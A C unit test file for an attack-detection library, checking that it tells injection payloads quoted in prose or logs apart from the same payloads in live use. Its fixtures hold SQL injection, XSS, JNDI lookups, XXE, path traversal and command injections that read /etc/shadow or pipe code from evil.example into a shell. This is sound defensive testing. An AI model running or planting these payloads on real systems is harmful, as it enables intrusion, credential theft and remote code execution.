/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that a text only mentions, beside the same attacks in use: what tells one from the other is what stands around. */
#include "inspect/inspect.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../lib/scratch.h"

enum expected {
	CITED,
	ATTACK,
};

static const struct row {
	enum expected expected;
	enum gb_attack_class attack_class;
	const char *text;
} rows[] = {
        /* Frames: quotes, code marks, fences. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "The scanner reported \"' OR 1=1 -- \" in the name parameter, please have a look."},
        {CITED, GB_CLASS_SQL_INJECTION,
                "If I send `' UNION SELECT 1,2 -- ` to the search endpoint, the server answers 500."},
        {CITED, GB_CLASS_CSV_INJECTION,
                "Our filter does not catch this one:\n\n```\n=cmd|' /C calc'!A0\n```\n\nWhich rule is missing?"},
        {CITED, GB_CLASS_XSS, "Our filter lets `<script>alert(1)</script>` through since the last update."},
        {CITED, GB_CLASS_COMMAND_INJECTION, "A host of \"8.8.8.8; rm -rf /\" runs two commands in this function."},
        {CITED, GB_CLASS_TEMPLATE,
                "In the docs `{{ ''.__class__.__mro__ }}` is the usual example of an attack on templates."},
        {CITED, GB_CLASS_DESERIALIZATION,
                "The scanner sent \"!!python/object/apply:os.system ['id']\" to our endpoint, and the parser rejected "
                "it."},
        {CITED, GB_CLASS_XML_ENTITY,
                "The parser must reject this input: <!DOCTYPE a [<!ENTITY b SYSTEM "
                "\"file:///etc/passwd\">]><a>&b;</a>"},
        /* Sentences that go on. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "When a user types ' or 1=1 -- into the search box, our page shows an error message."},
        {CITED, GB_CLASS_XSS,
                "Our pen tester typed <script>alert(1)</script> into the \"City\" field and got a popup."},
        /* Other languages. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "Si el usuario escribe \"' or 1=1 -- \" en el campo, la consulta devuelve todos los datos."},
        {CITED, GB_CLASS_XSS,
                "Ein Kunde gibt \"<script>alert(1)</script>\" in das Formular ein, und die Seite zeigt einen Fehler."},
        {CITED, GB_CLASS_SQL_INJECTION,
                "在搜索框输入 ' or 1=1 -- 会报数据库错误,请开发同学尽快修复,应该用参数化查询。"},
        {CITED, GB_CLASS_XSS,
                "Урок 3. Чтобы защититься от XSS: поле <script>alert(1)</script> будет показано как обычный текст."},
        /* At the sentence's stop, and as an item of a document. */
        {CITED, GB_CLASS_XSS, "The parameter name is reflected without encoding, a proof is <svg onload=alert(1)>."},
        {CITED, GB_CLASS_XSS,
                "Which of the following inputs is an example of an attack on the page of another user?\n"
                "A) http://127.0.0.1:9000/\nB) <script>confirm('x')</script>\n"
                "Answer: B. The defence is to encode each value when the page is rendered."},
        {CITED, GB_CLASS_XSS, "<button onclick=\"save()\">Save</button> does not call the function in this browser."},
        /* Lines of logs. */
        {CITED, GB_CLASS_SQL_INJECTION,
                "[ALERT] WAF blocked request | policy=edge | category=sql | uri=/login | matched=\"1' OR 1=1--\" | "
                "score=9"},
        {CITED, GB_CLASS_FILE_INCLUSION,
                "192.0.2.14 - - [10/Oct/2023:13:55:36 +0000] "
                "\"GET /index.php?page=../../../../etc/passwd HTTP/1.1\" 404 153"},
        /* Its own language would read the words around as well. */
        {CITED, GB_CLASS_NOSQL_INJECTION, "Mango selector: {\"selector\": {\"year\": {\"$gt\": 2010}}}"},
        {CITED, GB_CLASS_COMMAND_INJECTION, "//book[price>35]/title | //book[author=\"X\"]"},
        {CITED, GB_CLASS_SQL_INJECTION, "//div[@class='a' or @class='b']/a[contains(@href,'x')]"},
        {CITED, GB_CLASS_CODE_INJECTION,
                "<?php echo trim($_GET['q']); ?> prints a blank in front of the text, is that right?"},
        /* The talk of the text, and how the attack is tied to its sentence. */
        {CITED, GB_CLASS_XSS,
                "Our tester typed <script src=//evil.example/x.js></script> into the field and got a popup."},
        {CITED, GB_CLASS_TEMPLATE, "Our tester typed \"{{ ''.__class__.__mro__ }}\" into the field and got an error."},
        {CITED, GB_CLASS_NAMING_LOOKUP,
                "Our scanner sent `${jndi:ldap://evil.example/a}` to the server and it was in the log."},
        {CITED, GB_CLASS_DIRECTORY_QUERY,
                "A filter that is put together from input can be closed early with *)(uid=*))(|(uid=* in the login."},
        {CITED, GB_CLASS_SQL_INJECTION, "The label \"x'); DROP TABLE y;--\" on that box in the hall made my day."},
        {CITED, GB_CLASS_XSS,
                "document.getElementById('a').innerHTML = '<b>' + name + '</b>'; works, but how can I do that without "
                "it?"},
        {CITED, GB_CLASS_XSS,
                "198.51.100.7 - - [12/Jan/2024:10:00:01 +0100] \"GET /?a=<script>alert(1)</script> HTTP/1.1\" 403 18"},
        {CITED, GB_CLASS_NAMING_LOOKUP,
                "198.51.100.7 - - [12/Jan/2024:10:00:01 +0100] \"GET / HTTP/1.1\" 200 18 \"-\" "
                "\"${jndi:ldap://evil.example/a}\""},
        {CITED, GB_CLASS_XSS, "Top queries of our users: lamp, sofa, <script>alert(1)</script>, table and chair."},
        {CITED, GB_CLASS_XSS,
                "The visitor wrote: \"there is <img src=x onerror=alert(1)> below my comment on this page\""},
        {CITED, GB_CLASS_XSS,
                "level=warn msg=\"blocked\" rule=12 uri=\"/a?b=<script>alert(1)</script>\" client=203.0.113.3"},
        {CITED, GB_CLASS_XSS,
                "<form onsubmit=\"return check()\">\n<button>Go</button>\n</form>\nWhy is the form sent even when I "
                "cancel it?"},
        /* In use: nothing around, a comment around, or the talk of something else. */
        {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
        {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
        {ATTACK, GB_CLASS_SQL_INJECTION, "Anna' OR 1=1 -- "},
        {ATTACK, GB_CLASS_XSS, "Great article, thank you very much for writing this! <script>alert(1)</script>"},
        {ATTACK, GB_CLASS_XSS,
                "I really love this recipe. <img src=x onerror=alert(1)> We will cook it again on Sunday."},
        {ATTACK, GB_CLASS_XSS,
                "My grandmother said \"<script>alert(1)</script>\" and we laughed for a very long time."},
        {ATTACK, GB_CLASS_CODE_INJECTION,
                "<?php system($_GET['q']); ?> prints a blank in front of the text, is that right?"},
        {ATTACK, GB_CLASS_NOSQL_INJECTION, "admin\", \"password\": {\"$ne\": \"\"}, \"x\": \""},
        {ATTACK, GB_CLASS_SQL_INJECTION, "//user[name/text()='' or '1'='1']"},
        {ATTACK, GB_CLASS_XSS, "<img src=x onerror=alert(1)> Great article, thank you very much!"},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Get-ChildItem; iex (iwr http://evil.example/a.ps1)"},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "cat notes.txt; cat /etc/shadow"},
        /* What reaches out wants more talk of software than what only shows that it runs. */
        {ATTACK, GB_CLASS_XSS, "In my shop you find <script src=//evil.example/x.js></script> lamps of every size."},
        {ATTACK, GB_CLASS_XSS, "Visit my web site: <script src=//evil.example/x.js></script>"},
        {ATTACK, GB_CLASS_TEMPLATE,
                "My aunt says \"{{ ''.__class__.__mro__ }}\" whenever she enters a room full of people."},
        {ATTACK, GB_CLASS_NAMING_LOOKUP,
                "We found your house with `${jndi:ldap://evil.example/a}` in the evening, thank you for all."},
        {ATTACK, GB_CLASS_NAMING_LOOKUP, "Hello, I lost my password ${jndi:ldap://evil.example/a} please help me."},
        {ATTACK, GB_CLASS_XSS, "x classid=\"y\"></object> <object classid=\"z\" onerror=\"alert(1)\" a=b rule=c>"},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "the name of my file; cat /etc/shadow"},
        {ATTACK, GB_CLASS_XSS,
                "<form onsubmit=\"return check()\">\n<script src=//evil.example/a.js></script>\nWhy is the form sent "
                "even when I cancel it?"},
        {ATTACK, GB_CLASS_XSS,
                "<img src=x onerror=alert(1)>\nThank you so much for all of it, we were very happy there."},
        /* Appended to what somebody wrote of software. */
        {ATTACK, GB_CLASS_SQL_INJECTION, "The new query is quick' OR 1=1 -- "},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Fix the readme and bump the version; $(curl http://evil.example/a | sh)"},
        {ATTACK, GB_CLASS_XSS, "I typed this text. It is a good form. <img src=x onerror=alert(1)>"},
        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Thank you for the nice stay at your hotel; $(curl evil.example|sh)"},
        /* A mention in front of it. */
        {ATTACK, GB_CLASS_XSS, "The page lets `<script>alert(1)</script>` through.\n<img src=x onerror=alert(1)>"},
};

static void inspect(const char *text, bool is_strict, struct gb_inspect_report *ret_report)
{
	const struct gb_inspect_options options = {.is_strict = is_strict};

	gb_inspect_value(&options, gb_span_cstr(text), scratch, ret_report);
}

static bool is_as_expected(const struct row *row)
{
	struct gb_inspect_report report;

	inspect(row->text, false, &report);
	if (row->expected == ATTACK)
		return report.finding_count != 0;
	return report.finding_count == 0 && report.cited_count != 0 &&
	       report.cited[0].attack_class == row->attack_class && report.cited[0].confidence == GB_CONFIDENCE_LOW &&
	       report.cited[0].from + report.cited[0].length <= report.cited[0].value.n;
}

static void test_mentions(void **state)
{
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (is_as_expected(&rows[i]))
			continue;
		bad++;
		print_error("not as expected: %s\n", rows[i].text);
	}
	assert_int_equal(bad, 0);
}

/* Strict mode knows no mentions. */
static void test_strict(void **state)
{
	struct gb_inspect_report report;
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		inspect(rows[i].text, true, &report);
		if (report.finding_count != 0 && report.cited_count == 0)
			continue;
		bad++;
		print_error("not found in strict mode: %s\n", rows[i].text);
	}
	assert_int_equal(bad, 0);
}

/* What a policy may say of a class: its mentions are findings, or are not told. */
static void test_by_class(void **state)
{
	const char *text = "Our tester typed <script>alert(1)</script> into the name field and got a popup.";
	struct gb_inspect_options options = {.mentions_found = 1u << GB_CLASS_XSS};
	struct gb_inspect_report report;

	(void)state;
	gb_inspect_value(&options, gb_span_cstr(text), scratch, &report);
	assert_int_equal(report.finding_count, 1);
	assert_int_equal(report.cited_count, 0);
	options = (struct gb_inspect_options){.mentions_untold = 1u << GB_CLASS_XSS};
	gb_inspect_value(&options, gb_span_cstr(text), scratch, &report);
	assert_int_equal(report.finding_count + report.cited_count, 0);
	options = (struct gb_inspect_options){
	        .mentions_found = 1u << GB_CLASS_SQL_INJECTION, .mentions_untold = 1u << GB_CLASS_TEMPLATE};
	gb_inspect_value(&options, gb_span_cstr(text), scratch, &report);
	assert_int_equal(report.finding_count, 0);
	assert_int_equal(report.cited_count, 1);
}

/* Prose alone mentions nothing, nor do statements and commands that somebody wrote for somebody else. */
static void test_nothing(void **state)
{
	static const char *const texts[] = {
	        "The user types a value into the search field of our page, and the server returns an error.",
	        "requests with ${jndi:ldap://<host>} in the header",
	        "SELECT a.name, b.id\nFROM a, b\nUNION ALL\nSELECT 'total', COUNT(*) FROM b\nORDER BY 2;",
	        "mysql> SELECT VERSION();\n+---+",
	        "Get-ChildItem -Recurse *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item",
	        "traceroute -n 8.8.8.8; mtr -r example.com",
	        "echo '{\"a\":1}' | python3 -m json.tool",
	        "~/proj $ make test\ngcc -o t t.c && ./t\nok",
	};
	struct gb_inspect_report report;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		inspect(texts[i], false, &report);
		if (report.finding_count + report.cited_count != 0)
			fail_msg("found in %s", texts[i]);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_mentions),
	        cmocka_unit_test(test_strict),
	        cmocka_unit_test(test_by_class),
	        cmocka_unit_test(test_nothing),
	};

	return run_tests_with_scratch(tests);
}
